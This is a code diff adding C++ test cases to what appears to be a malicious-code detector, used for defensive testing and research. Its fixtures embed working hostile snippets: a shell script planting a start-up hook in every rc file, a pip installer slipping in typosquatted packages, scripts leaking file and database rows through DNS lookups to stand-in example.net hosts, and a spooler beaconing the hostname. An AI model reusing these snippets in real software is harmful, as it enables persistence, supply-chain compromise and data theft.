@@ -206,5 +206,173 @@ TEST(NinetiethRoundClasses, ACallbacksArgumentsKeepTheirOwnLabels) {
   for (const auto& c : cases) check(c);
 }
 
+// An unquoted command substitution splits at every IFS character: a
+// function's printf '%s\n' list of shell start-up files is one file per pass.
+TEST(NinetiethRoundClasses, AnUnquotedExpansionSplitsAtNewlines) {
+  const Case cases[] = {
+      {"a start-up hook appended to each rc file a function lists", B,
+       "#!/bin/sh\n"
+       "profile_files() {\n"
+       "    for f in \"$HOME/.bashrc\" \"$HOME/.zshrc\" \"$HOME/.profile\"; do\n"
+       "        [ -f \"$f\" ] && printf '%s\\n' \"$f\"\n"
+       "    done\n"
+       "}\n"
+       "for rc in $(profile_files); do\n"
+       "    printf '\\n%s\\n' '(\"$HOME/.local/bin/ratesync\" --daemon &)' >> \"$rc\"\n"
+       "done\n",
+       "PERSISTENCE", Language::shell},
+      {"the same list only read", L,
+       "#!/bin/sh\n"
+       "profile_files() {\n"
+       "    for f in \"$HOME/.bashrc\" \"$HOME/.zshrc\" \"$HOME/.profile\"; do\n"
+       "        [ -f \"$f\" ] && printf '%s\\n' \"$f\"\n"
+       "    done\n"
+       "}\n"
+       "for rc in $(profile_files); do\n"
+       "    grep -c alias \"$rc\"\n"
+       "done\n",
+       nullptr, Language::shell},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Package names kept through the ways a plan of them is built: dict() of
+// pairs, the known keys of a dict a file may add to, a list extended by
+// another with unknown items, a slice of a generator.
+TEST(NinetiethRoundClasses, PackageNamesSurviveDictsOfPairsAndOpenLists) {
+  const Case cases[] = {
+      {"typosquats from dict(pairs), filtered by a comprehension, added with +=", B,
+       "import subprocess, sys\n"
+       "from pathlib import Path\n"
+       "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
+       "LEGACY = [('colou' + 'rama', 'colorama'), ('python3-' + 'dateutil', 'dateutil')]\n"
+       "def build_plan(extra):\n"
+       "    plan = dict(CORE)\n"
+       "    plan.update(dict(LEGACY))\n"
+       "    for line in Path(extra).read_text().splitlines():\n"
+       "        plan.setdefault(line, line)\n"
+       "    return plan\n"
+       "def pip_install(packages):\n"
+       "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
+       "    cmd += packages\n"
+       "    subprocess.run(cmd, check=True)\n"
+       "plan = build_plan(sys.argv[1])\n"
+       "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
+       "    pip_install(batch)\n",
+       "KNOWN-MALICIOUS-PACKAGE"},
+      {"the genuine names the same way", M,
+       "import subprocess, sys\n"
+       "from pathlib import Path\n"
+       "CORE = {'lxml': 'lxml', 'requests': 'requests'}\n"
+       "LEGACY = [('colo' + 'rama', 'colorama'), ('python-' + 'dateutil', 'dateutil')]\n"
+       "def build_plan(extra):\n"
+       "    plan = dict(CORE)\n"
+       "    plan.update(dict(LEGACY))\n"
+       "    for line in Path(extra).read_text().splitlines():\n"
+       "        plan.setdefault(line, line)\n"
+       "    return plan\n"
+       "def pip_install(packages):\n"
+       "    cmd = [sys.executable, '-m', 'pip', 'install']\n"
+       "    cmd += packages\n"
+       "    subprocess.run(cmd, check=True)\n"
+       "plan = build_plan(sys.argv[1])\n"
+       "for batch in [list(CORE), [d for d in plan if d not in CORE]]:\n"
+       "    pip_install(batch)\n",
+       "INSTALLS-PACKAGES"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Data read from the user's files reaches DNS labels through an XML parse of
+// a path, rows stored in and read back from SQLite, a slice of a generator.
+TEST(NinetiethRoundClasses, FileDataThroughXmlSqliteAndGeneratorsReachesDnsLabels) {
+  const Case cases[] = {
+      {"TMX segments stored in SQLite, read back, hex-encoded into DNS names", B,
+       "import binascii, itertools, socket, sqlite3, sys\n"
+       "import xml.etree.ElementTree as ET\n"
+       "def labels(conn):\n"
+       "    for n, (src, tgt) in enumerate(conn.execute('SELECT source, target FROM segments')):\n"
+       "        blob = binascii.hexlify(f'{src}\\t{tgt}'.encode()).decode()\n"
+       "        yield f'{blob[:60]}.{n}.tm-edge.example.net'\n"
+       "conn = sqlite3.connect('tm.sqlite')\n"
+       "rows = [(tu.text, tu.tail) for _, tu in ET.iterparse(sys.argv[1])]\n"
+       "with conn:\n"
+       "    conn.executemany('INSERT INTO segments VALUES (?, ?)', rows)\n"
+       "names = labels(conn)\n"
+       "for name in list(itertools.islice(names, 64)):\n"
+       "    socket.getaddrinfo(name, 443)\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"rows of a database the user names, spelled into DNS labels", B,
+       "import binascii, socket, sqlite3, sys\n"
+       "conn = sqlite3.connect(sys.argv[1])\n"
+       "for n, (a, b) in enumerate(conn.execute('SELECT a, b FROM t')):\n"
+       "    socket.getaddrinfo(binascii.hexlify(f'{a}{b}'.encode()).decode()[:60] + f'.{n}.x.example.net', 443)\n",
+       "COVERT-CHANNEL-EXFILTRATION"},
+      {"the rows counted and the zone's own name resolved", L,
+       "import socket, sqlite3, sys\n"
+       "conn = sqlite3.connect(sys.argv[1])\n"
+       "n = len(list(conn.execute('SELECT a FROM t')))\n"
+       "print(n, socket.getaddrinfo('tm-edge.example.net', 443))\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// ConfigParser(defaults=D): every section has D's options unless it sets its
+// own; a section the code never set is D's, or what a file read holds.
+TEST(NinetiethRoundClasses, ConfigParserDefaultsAreEverySectionsOptions) {
+  const char* server =
+      "import configparser, os\n"
+      "from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer\n"
+      "DEFAULTS = {'bind': BIND, 'port': '8088'}\n"
+      "cp = configparser.ConfigParser(defaults=DEFAULTS)\n"
+      "cp.read([os.path.expanduser('~/.config/agent.ini')])\n"
+      "cfg = cp['agent'] if cp.has_section('agent') else cp['DEFAULT']\n"
+      "class H(BaseHTTPRequestHandler):\n"
+      "    def do_GET(self):\n"
+      "        self.send_response(200)\n"
+      "        self.end_headers()\n"
+      "        self.wfile.write(b'doors: 4 open')\n"
+      "ThreadingHTTPServer((cfg['bind'], int(cfg['port'])), H).serve_forever()\n";
+  auto with_bind = [&](const char* bind) {
+    std::string code = server;
+    code.replace(code.find("BIND"), 4, bind);
+    return code;
+  };
+  const std::string all = with_bind("'0.0.0.0'"), local = with_bind("'127.0.0.1'");
+  const Case cases[] = {
+      {"a status page bound to every interface by default", M, all.c_str(), "LISTENS-ON-ALL-INTERFACES"},
+      {"the same page on loopback by default", L, local.c_str()},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// Inside `if name.endswith(".bin"):` a listed name ends so: a spool's print
+// jobs sent to the printer are not the status file beside them that names
+// the host.
+TEST(NinetiethRoundClasses, AnEndswithConditionNarrowsAListedName) {
+  const char* spooler =
+      "import json, os, queue, socket\n"
+      "JOBS = queue.Queue()\n"
+      "with open(os.path.join('./spool', 'status.json'), 'w') as fh:\n"
+      "    json.dump({'host': socket.gethostname()}, fh)\n"
+      "for leftover in sorted(os.listdir('./spool')):\n"
+      "    if CONDITION:\n"
+      "        JOBS.put(os.path.join('./spool', leftover))\n"
+      "path = JOBS.get()\n"
+      "with socket.create_connection(('10.20.0.41', 9100)) as sock, open(path, 'rb') as fh:\n"
+      "    sock.sendall(fh.read())\n";
+  auto with = [&](const char* condition) {
+    std::string code = spooler;
+    code.replace(code.find("CONDITION"), 9, condition);
+    return code;
+  };
+  const std::string jobs = with("leftover.endswith('.bin')"), every = with("leftover != '.lock'");
+  const Case cases[] = {
+      {"only the .bin jobs go to the printer", L, jobs.c_str()},
+      {"every file of the spool, the status file too, goes to a numeric address", B, every.c_str(), "IDENTITY-BEACON"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
